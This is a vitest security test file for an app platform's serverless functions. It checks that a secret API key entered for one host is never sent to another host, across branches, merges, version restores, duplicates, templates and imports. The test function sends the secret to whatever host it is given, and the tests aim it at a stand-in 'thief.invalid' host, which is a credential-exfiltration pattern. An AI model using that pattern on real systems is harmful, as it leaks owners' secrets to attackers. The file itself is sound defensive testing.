import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Data, files, type NewApp, openWorld, type World } from '../security/world.ts';

let world: World;
beforeAll(async () => {
  world = await openWorld({ RATE_LIMIT: '0', APP_RATE_LIMIT: '0', PROCESSES: '1' });
}, 300_000);
afterAll(() => world?.server.close());

const SECRET = 'sk_live_of_the_owner';
/** The same code calls any server: it is what an attacker would change it to. */
const PAY = `export default async ({ at }, { env }) => fetch('https://' + at + '/?key=' + (env.PAY_KEY ?? 'none')).then((one) => one.text(), (error) => error.message);`;
const genApp = { name: 'Shop', ...files, functions: { pay: PAY } };

const ask = async (query: string, variables: object, by: 'owner' | 'editor' | 'stranger' = 'owner'): Promise<Data> => {
  const { data, errors } = await world.graphql(by, query, variables);
  if (errors) throw new Error(JSON.stringify(errors));
  return data;
};
const write = (appId: string, content: string) =>
  world.json('admin', { path: `/api/apps/${appId}/files/update`, body: { file: { id: 'functions/pay', content } } });
const allow = (appId: string, hosts: readonly string[], by: 'owner' | 'editor' = 'owner') =>
  ask(
    'mutation ($id: ID!, $hosts: [String!]) { allowFunction(appId: $id, name: "pay", hosts: $hosts) { name } }',
    { id: appId, hosts },
    by,
  );
/** What a run says that calls a server; no name of these tests is resolved. */
const call = async (appId: string, at: string, by: 'owner' | 'editor' | 'stranger' = 'owner'): Promise<string> => {
  const run = 'mutation ($id: ID!, $input: JSON) { testFunction(appId: $id, name: "pay", input: $input) { answer run { error } } }';
  const { testFunction } = await ask(run, { id: appId, input: { at } }, by);
  return `${testFunction.answer} ${testFunction.run.error}`.replaceAll('\\"', '"');
};
const keyOf = async (appId: string): Promise<Data> =>
  (await ask('query ($id: ID!) { functionVariables(appId: $id) { name hosts } }', { id: appId })).functionVariables;

/** An app whose secret was entered for one server. */
async function shop(): Promise<NewApp> {
  const app = await world.newApp();
  await write(app.id, PAY);
  await allow(app.id, ['pay.invalid']);
  const set =
    'mutation ($id: ID!, $value: String!) { setFunctionVariable(appId: $id, name: "PAY_KEY", value: $value, isSecret: true, hosts: ["pay.invalid"]) { name } }';
  await ask(set, { id: app.id, value: SECRET });
  expect(await keyOf(app.id)).toEqual([{ name: 'PAY_KEY', hosts: ['pay.invalid'] }]);
  return app;
}
/** Refused before a connection is made, and by nothing else. */
const isKept = (answer: string) => {
  expect(answer).toContain('The secret "PAY_KEY" was entered for pay.invalid');
  expect(answer).not.toContain(SECRET);
};
const current = async (id: string): Promise<string> =>
  (await ask('query ($id: ID!) { app(id: $id) { currentVersion { id } } }', { id })).app.currentVersion.id;

describe('a secret reaches no server that it was not entered for', () => {
  test('by another server that one allows who may edit', async () => {
    const { id } = await shop();
    await allow(id, ['pay.invalid', 'thief.invalid'], 'editor');
    isKept(await call(id, 'thief.invalid', 'editor'));
    expect(await call(id, 'pay.invalid', 'editor')).not.toContain('was entered for');
  });

  test('by an idea, in it or merged', async () => {
    const { id } = await shop();
    const { startBranch } = await ask('mutation ($id: ID!) { startBranch(id: $id, name: "Steal") { id } }', { id });
    await allow(startBranch.id, ['thief.invalid'], 'editor');
    await write(startBranch.id, `${PAY}\n// of an idea`);
    // The idea has secrets of its own, if any.
    expect(await keyOf(startBranch.id)).toEqual([]);
    expect(await call(startBranch.id, 'thief.invalid')).not.toContain(SECRET);
    const merge = `mutation ($id: ID!, $target: ID!, $source: ID!) {
      mergeBranch(id: $id, direction: merge, targetVersionId: $target, sourceVersionId: $source) { rowCopyId }
    }`;
    const before = await current(id);
    await ask(merge, { id: startBranch.id, target: before, source: await current(startBranch.id) });
    expect(await current(id)).not.toBe(before);
    expect(await keyOf(id)).toEqual([{ name: 'PAY_KEY', hosts: ['pay.invalid'] }]);
    // What was allowed in the idea is not allowed in the app.
    expect(await call(id, 'thief.invalid')).toContain('is not among the hosts');
    await allow(id, ['pay.invalid', 'thief.invalid'], 'editor');
    isKept(await call(id, 'thief.invalid'));
  });

  test('by restoring a version that called another server', async () => {
    const { id } = await shop();
    await allow(id, ['pay.invalid', 'thief.invalid']);
    const before = await current(id);
    await write(id, `${PAY}\n// changed`);
    await ask('mutation ($id: ID!, $versionId: ID!) { restoreVersion(id: $id, versionId: $versionId) { id } }', { id, versionId: before });
    isKept(await call(id, 'thief.invalid'));
    expect(await keyOf(id)).toEqual([{ name: 'PAY_KEY', hosts: ['pay.invalid'] }]);
  });

  test('by a version that lacked the function, and one that has it again', async () => {
    const { id, versionId } = await shop();
    const restore = 'mutation ($id: ID!, $versionId: ID!) { restoreVersion(id: $id, versionId: $versionId) { id } }';
    const withIt = await current(id);
    await ask(restore, { id, versionId });
    await ask(restore, { id, versionId: withIt });
    await allow(id, ['thief.invalid'], 'editor');
    isKept(await call(id, 'thief.invalid'));
  });

  test('by a duplicate, with and without rows', async () => {
    const { id } = await shop();
    for (const withRows of [false, true]) {
      const { duplicateApp } = await ask('mutation ($id: ID!, $withRows: Boolean) { duplicateApp(id: $id, withRows: $withRows) { id } }', {
        ...{ id, withRows },
      });
      expect(await keyOf(duplicateApp.id)).toEqual([]);
      await allow(duplicateApp.id, ['thief.invalid']);
      expect(await call(duplicateApp.id, 'thief.invalid')).not.toContain(SECRET);
    }
  });

  test('by a template, and an app that another builder makes of it', async () => {
    const { id } = await shop();
    const share = 'mutation ($id: ID!) { shareTemplate(appId: $id, title: "Shop", description: "A shop", withRows: true) { name } }';
    const { shareTemplate } = await ask(share, { id });
    const make = 'mutation ($name: ID!) { createAppFromTemplate(name: $name) { id } }';
    const { createAppFromTemplate } = await ask(make, { name: shareTemplate.name }, 'stranger');
    const { functionVariables } = await ask(
      'query ($id: ID!) { functionVariables(appId: $id) { name } }',
      { id: createAppFromTemplate.id },
      'stranger',
    );
    expect(functionVariables).toEqual([]);
    expect(await call(createAppFromTemplate.id, 'pay.invalid', 'stranger')).not.toContain(SECRET);
  });

  test('by an import of the same files as another app', async () => {
    await shop();
    const { id } = await world.json('owner', { path: '/api/apps', body: { appType: 'generated', genApp } });
    await write(id, PAY);
    await allow(id, ['thief.invalid']);
    expect(await keyOf(id)).toEqual([]);
    expect(await call(id, 'thief.invalid')).not.toContain(SECRET);
  });

  test('by removing it and entering a setting, or another secret, of the same name', async () => {
    const { id } = await shop();
    await allow(id, ['pay.invalid', 'thief.invalid'], 'editor');
    await ask('mutation ($id: ID!) { removeFunctionVariable(appId: $id, name: "PAY_KEY") { name } }', { id });
    const set =
      'mutation ($id: ID!) { setFunctionVariable(appId: $id, name: "PAY_KEY", value: "another value", isSecret: true, hosts: ["thief.invalid"]) { name } }';
    await ask(set, { id }, 'editor');
    expect(await call(id, 'thief.invalid')).not.toContain(SECRET);
    expect(await call(id, 'pay.invalid')).toContain('was entered for thief.invalid');
  });
});
